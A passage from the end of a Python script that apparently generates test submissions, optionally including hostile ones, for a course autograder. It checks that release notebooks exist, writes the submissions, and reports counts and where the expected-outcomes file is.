    unreleased = [a for a in (args.assignments or known) if not release_notebook(repo_root(), a).is_file()]
    if unreleased:
        print(f"no release in course/ for {', '.join(unreleased)}: run `make release`", file=sys.stderr)
        return 2
    expected = write_submissions(args.directory, args.assignments or None, with_hostile=args.hostile)
    for a, subs in expected.items():
        print(f"{a}: {len(subs)} submissions ({', '.join(subs)})")
    print(f"expected outcomes: {args.directory / 'expected.json'}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
